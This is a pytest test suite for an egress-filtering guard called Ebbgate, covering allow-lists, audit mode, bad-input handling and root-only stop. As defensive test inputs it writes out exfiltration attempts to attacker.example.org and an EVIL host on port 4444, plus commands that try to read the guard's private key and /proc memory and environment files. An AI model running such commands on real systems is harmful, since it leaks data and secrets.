"""Starting, asking, stopping: whole or not at all, and the machine as it was."""

from __future__ import annotations

import json

import pytest

from tests.job.guarded import STATE, Job
from tests.machine import Machine
from tests.world.internet import EVIL

pytestmark = pytest.mark.root


def test_armed_allowed_denied_reported_and_stopped(machine: Machine) -> None:
    before = machine.run(["nft", "list", "ruleset"], user="root").stdout
    bundle = machine.read("/etc/ssl/certs/ca-certificates.crt")
    sudoers = machine.run(["ls", "-A", "/etc/sudoers.d"], user="root").stdout
    with Job(machine, allow="api.example.com") as job:
        answer = json.loads(job.started.stdout)
        assert answer["armed"] is True
        assert answer["mode"] == "enforce"
        assert "got GET /hello" in job.step(["curl", "-sS", "https://api.example.com/hello"], name="fetch").stdout
        refused = job.step(["curl", "-sS", "https://attacker.example.org/steal"], name="leak")
        assert "Ebbgate refused this request" in refused.stdout
        assert machine.world.at(EVIL) == []
        verdict = job.verdict()
        assert verdict.code == 90
        assert verdict.report["verdict"] == "blocked"
        incident = verdict.report["incidents"][0]
        assert incident["origin"]["process"]["exe"].endswith("/curl")
        assert incident["origin"]["step"]["name"] == "leak"
        assert "attacker.example.org" in verdict.stdout
        reached = {one["host"]: one["steps"] for one in verdict.report["destinations"]}
        assert reached == {"api.example.com": ["fetch"]}
        stopped = job.ebbgate("stop", user="root")
        assert stopped.code == 0, stopped.stderr
    assert machine.run(["nft", "list", "ruleset"], user="root").stdout == before
    assert machine.read("/etc/ssl/certs/ca-certificates.crt") == bundle
    assert machine.run(["ls", "-A", "/etc/sudoers.d"], user="root").stdout == sudoers
    assert machine.run(["ls", STATE], user="root").code != 0
    assert machine.run(["curl", "-sS", "https://attacker.example.org/"]).code == 0


def test_a_clean_job_ends_clean(machine: Machine) -> None:
    with Job(machine, allow="api.example.com") as job:
        assert job.step(["curl", "-sS", "https://api.example.com/"]).code == 0
        verdict = job.verdict()
        assert verdict.code == 0, verdict.stdout
        assert verdict.report["incidents"] == []
        assert job.status()["verdict_so_far"] == "clean"


def test_audit_changes_nothing_and_suggests_a_policy(machine: Machine) -> None:
    with Job(machine, mode="audit") as job:
        assert "got GET /x" in job.step(["curl", "-sS", "https://attacker.example.org/x"]).stdout
        job.step(["python3", "-c", f"import socket; socket.socket(2, 2).sendto(b'x', ('{EVIL}', 4444))"])
        assert (EVIL, 17, 4444) in machine.sent()
        verdict = job.verdict()
        assert verdict.code == 0
        assert {one["kind"] for one in verdict.report["incidents"]} == {"blocked"}
        suggested = machine.read("/tmp/verdict/policy.suggested.yml")
        assert "attacker.example.org" in suggested
        checked = machine.run([machine.python, "-m", "ebbgate", "check", "/tmp/verdict/policy.suggested.yml"])
        assert checked.code == 0, checked.stderr
    with Job(machine, policy=suggested.replace("mode: audit", "mode: enforce"), mode="enforce") as job:
        assert "got GET /x" in job.step(["curl", "-sS", "https://attacker.example.org/x"]).stdout


BROKEN = {
    "an unknown input": ({"inputs": {"alow": "example.com"}}, "did you mean allow?"),
    "an unknown value": ({"inputs": {"mode": "enforced"}}, "did you mean enforce?"),
    "two policies": ({"inputs": {"policy": "version: 1", "policy-file": ".github/e.yml"}}, "contradict"),
    "contradicting modes": ({"inputs": {"mode": "audit", "egress-policy": "block"}}, "contradict"),
    "a broken policy": ({"inputs": {"policy": "version: 1\nallow:\n  - hots: example.com\n"}}, "input policy:3:5"),
    "an unknown preset": ({"inputs": {"use": "pyton"}}, "did you mean python?"),
    "no endpoint": ({"inputs": {"allowed-endpoints": "example.com:443:1"}}, "is no HOST:PORT"),
    "no runner": ({"inputs": {}, "runner": {"pid": 999_999_999, "uid": 1}}, "could be the runner"),
    "no document": ([], "not a JSON object"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_bad_input_changes_nothing(machine: Machine, name: str) -> None:
    before = machine.run(["nft", "list", "ruleset"], user="root").stdout
    job = Job(machine)
    job.runner = machine.popen(["sleep", "60"])
    change, told = BROKEN[name]
    document = {**job.document(), **change} if isinstance(change, dict) else change
    refused = job.start(document)
    assert refused.code == 2, refused.stderr
    assert told in refused.stderr
    assert refused.stdout == ""
    assert machine.run(["nft", "list", "ruleset"], user="root").stdout == before
    assert machine.run(["ls", STATE], user="root").code != 0


def test_a_second_guard_is_refused_and_the_first_goes_on(machine: Machine) -> None:
    with Job(machine, allow="api.example.com") as job:
        again = job.start()
        assert again.code == 3
        assert "a guard is here already" in again.stderr
        assert job.step(["curl", "-sS", "https://api.example.com/"]).code == 0
        verdict = job.verdict()
        assert verdict.code == 0, verdict.report["incidents"]


def test_a_machine_without_a_nameserver_is_refused_and_left_as_it_was(machine: Machine) -> None:
    machine.write("/etc/resolv.conf", "nameserver 127.0.0.53\n", user="root")
    job = Job(machine)
    job.runner = machine.popen(["sleep", "60"])
    refused = job.start()
    assert refused.code == 3
    assert "no nameserver that the gate could ask" in refused.stderr
    assert "table" not in machine.run(["nft", "list", "ruleset"], user="root").stdout
    assert machine.run(["ls", STATE], user="root").code != 0


def test_only_root_may_stop(machine: Machine) -> None:
    with Job(machine) as job:
        assert job.ebbgate("stop").code == 3
        asked = job.step(
            [machine.python, "-c", "from pathlib import Path; from ebbgate.warden.control import ask;"
             f"print(ask(Path('{STATE}'), {{'type': 'stop'}}, timeout=5))"]
        )  # fmt: skip
        assert "only root may" in asked.stdout, asked.stderr
        assert job.status()["armed"] is True


def test_the_journal_and_the_authoritys_key_are_nobodys_business(machine: Machine) -> None:
    with Job(machine) as job:
        assert job.step(["cat", f"{STATE}/events.jsonl"]).code != 0
        listed = job.step(["sh", "-c", f"cat {STATE}/*"]).stdout
        assert "PRIVATE KEY" not in listed
        for pid in (job.status()["warden"], job.status()["gate"]):
            for name in ("environ", "mem", "fd", "maps"):
                assert job.step(["sh", "-c", f"ls /proc/{pid}/fd/ || cat /proc/{pid}/{name}"]).code != 0


def test_policies_with_jobs_apply_the_jobs_additions(machine: Machine) -> None:
    policy = "version: 1\nallow: [api.example.com]\njobs:\n  build:\n    allow: [mirror.example.com]\n  other: {allow: [files.example.net]}\n"
    with Job(machine, policy=policy, job="build") as job:
        for host, works in (("api.example.com", True), ("mirror.example.com", True), ("files.example.net", False)):
            assert ("got GET" in job.step(["curl", "-sS", f"https://{host}/"]).stdout) is works


def test_an_entry_for_one_step_is_for_no_other(machine: Machine) -> None:
    policy = "version: 1\nallow:\n  - { host: api.example.com, only: { steps: [publish] } }\n"
    with Job(machine, policy=policy, mode="enforce") as job:
        assert "got GET /x" in job.step(["curl", "-sS", "https://api.example.com/x"], name="publish").stdout
        assert "got GET /y" not in job.step(["curl", "-sS", "https://api.example.com/y"], name="test").stdout
        assert job.verdict().code == 90
